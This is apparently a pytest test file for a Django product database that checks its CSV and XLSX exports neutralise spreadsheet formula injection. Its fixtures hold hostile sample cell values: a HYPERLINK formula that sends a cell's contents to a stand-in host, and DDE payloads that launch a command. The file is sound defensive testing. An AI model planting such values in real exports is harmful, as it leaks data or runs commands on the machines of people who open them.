"""No CSV or XLSX the project writes carries a live formula (issue 12)."""

import csv
import datetime
import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from products.models import ProductPage, Unit
from tests.factories import make_product
from tests.importing.helpers import run

HYPERLINK = '=HYPERLINK("http://x.example/?"&A1,"bấm vào đây")'
COMMAND = "+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
DANGEROUS = (HYPERLINK, COMMAND, AT, "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")


def assert_no_formula_cells(values):
    for value in values:
        if isinstance(value, str) and value:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), repr(value)


def xlsx_values(content):
    book = load_workbook(io.BytesIO(content))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    return values


@pytest.fixture
def dangerous_products(registers):
    return [
        make_product(
            title=text,
            summary=COMMAND,
            transcript=AT,
            external_id=f"f-{number}",
            publications=[("facebook", datetime.date(2024, 3, number + 1))],
        )
        for number, text in enumerate(DANGEROUS)
    ]


def test_export_products_csv_and_xlsx_neutralise_formulas(dangerous_products, tmp_path):
    out = tmp_path / "out.csv"
    call_command("export_products", "--format", "csv", "--output", str(out), stderr=io.StringIO())
    rows = list(csv.reader(out.open(encoding="utf-8")))
    assert len(rows) == 1 + len(DANGEROUS)
    for row in rows:
        assert_no_formula_cells(row)
    assert f"'{HYPERLINK}" in [row[1] for row in rows]
    xlsx = tmp_path / "out.xlsx"
    call_command("export_products", "--format", "xlsx", "--output", str(xlsx), stderr=io.StringIO())
    values = xlsx_values(xlsx.read_bytes())
    assert_no_formula_cells(values)
    assert f"'{HYPERLINK}" in values


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_neutralised_export_imports_back_to_the_same_text(dangerous_products, tmp_path, suffix):
    out = tmp_path / f"out.{suffix}"
    call_command("export_products", "--format", suffix, "--output", str(out), stderr=io.StringIO())
    ProductPage.objects.filter(external_id__startswith="f-").update(external_id=None)
    ok, output = run(out)
    assert ok, output
    for number, text in enumerate(DANGEROUS):
        page = ProductPage.objects.get(external_id=f"f-{number}")
        assert (page.title, page.summary, page.transcript) == (text.strip(), COMMAND, AT)


def test_audit_drilldown_csv_and_xlsx_neutralise_formulas(admin_client, dangerous_products):
    params = {"year": 2024, "which": "total"}
    response = admin_client.get(reverse("audit:products"), {**params, "export": "csv"})
    rows = list(csv.reader(b"".join(response.streaming_content).decode("utf-8-sig").splitlines()))
    assert len(rows) >= 1 + len(DANGEROUS)
    for row in rows:
        assert_no_formula_cells(row)
    response = admin_client.get(reverse("audit:products"), {**params, "export": "xlsx"})
    content = b"".join(response.streaming_content) if response.streaming else response.content
    assert_no_formula_cells(xlsx_values(content))


def test_audit_figures_csv_and_xlsx_neutralise_formulas(admin_client, registers):
    Unit.objects.create(slug="=cmd", name_vi=HYPERLINK, kind="press", languages=["vi"])
    make_product(title="x", unit="=cmd", publications=[("facebook", datetime.date(2024, 3, 1))])
    response = admin_client.get(reverse("audit:export"), {"year": 2024, "format": "csv"})
    rows = list(csv.reader(response.content.decode("utf-8-sig").splitlines()))
    assert any("'=cmd" in row for row in rows)
    for row in rows:
        assert_no_formula_cells(row)
    response = admin_client.get(reverse("audit:export"), {"year": 2024, "format": "xlsx"})
    values = xlsx_values(response.content)
    assert "'=cmd" in values
    assert_no_formula_cells(values)
